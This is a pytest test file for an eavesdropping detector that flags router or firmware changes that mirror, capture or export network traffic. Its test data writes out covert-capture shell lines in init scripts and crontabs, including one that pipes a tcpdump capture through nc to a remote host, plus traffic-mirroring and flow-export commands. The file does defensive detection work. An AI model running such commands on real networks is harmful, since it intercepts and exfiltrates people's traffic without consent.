"""Copies and records of traffic."""

import pytest
from tests.unit.explaining.cases import case, findings, rules

from trueware.explaining.detectors.eavesdropping import Eavesdropping
from trueware.model.finding import Severity

SH = b"#!/bin/sh\n"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "tc filter add dev br-lan parent ffff: u32 match u32 0 0 action mirred egress mirror dev eth1",
            ["traffic-mirrored"],
        ),
        ("swconfig dev switch0 set enable_mirror_rx 1", ["traffic-mirrored"]),
        ("ip link add er type erspan remote 198.51.100.1", ["traffic-mirrored"]),
        ("ovs-vsctl -- --id=@m create mirror name=m0", ["traffic-mirrored"]),
        ("tcpdump -i br-lan -w /tmp/x.pcap &", ["traffic-recorded"]),
        ("nohup /usr/sbin/tcpdump -i any -w - | nc 198.51.100.1 99", ["traffic-recorded"]),
        ("mitmdump -s /tmp/x.py", ["interception-tool-started"]),
        ("softflowd -n 198.51.100.1:2055", ["traffic-reported"]),
        # near misses
        ("tc filter add dev wan parent ffff: matchall action mirred egress redirect dev ifb0", []),
        ("swconfig dev switch0 set enable_mirror_rx 0", []),
        ("swconfig dev switch0 set enable_vlan 1", []),
        ("tcpdump -D", []),
        ("echo tcpdump -i br-lan", []),
        ("# tcpdump -i br-lan", []),
        ("ip link add gre1 type dummy", []),
        ("killall tcpdump", []),
    ],
)
def test_commands(line: str, expected: list[str]) -> None:
    path = "etc/init.d/x"
    assert rules(Eavesdropping, case({path: SH}, {path: SH + line.encode() + b"\n"})) == expected
    assert rules(Eavesdropping, case({path: SH + line.encode()}, {path: SH + b"true\n" + line.encode()})) == []


def test_what_starts_programs_otherwise() -> None:
    path = "etc/crontabs/root"
    (found,) = findings(Eavesdropping, case({path: b""}, {path: b"* * * * * softflowd -n 198.51.100.1:2055\n"}))
    assert (found.rule, found.touches) == ("traffic-reported", ("host:198.51.100.1",))


def test_settings_of_a_switch() -> None:
    path, before = "etc/config/network", b"config switch\n option name switch0\n option enable_mirror_rx 0\n"
    after = before.replace(b"rx 0", b"rx 1") + b" option mirror_monitor_port 4\n"
    (found,) = findings(Eavesdropping, case({path: before}, {path: after}, mutable=("etc/config/**",)))
    assert (found.rule, found.severity, found.detail) == (
        "traffic-mirrored",
        Severity.HIGH,
        "packets are copied to port 4",
    )
    assert rules(Eavesdropping, case({path: before}, {path: before + b" option enable_vlan 1\n"})) == []
    assert rules(Eavesdropping, case({path: after}, {path: after + b" option enable_vlan 1\n"})) == []


def test_the_package_that_mirrors() -> None:
    path, before = "etc/config/port-mirroring", b"config port-mirroring\n option target ''\n option protocol TZSP\n"
    after = before.replace(b"''", b"198.51.100.9")
    (found,) = findings(Eavesdropping, case({path: before}, {path: after}))
    assert (found.rule, found.touches) == ("traffic-mirrored", ("host:198.51.100.9",))
    assert rules(Eavesdropping, case({path: before}, {path: before.replace(b"TZSP", b"TEE")})) == []
    conf = "etc/port-mirroring/port-mirroring.conf"
    assert rules(Eavesdropping, case({conf: b"#target=1.2.3.4\n"}, {conf: b"target=198.51.100.9\n"})) == [
        "traffic-mirrored"
    ]
    assert rules(Eavesdropping, case({conf: b"target=1.2.3.4\n"}, {conf: b"#target=198.51.100.9\n"})) == []
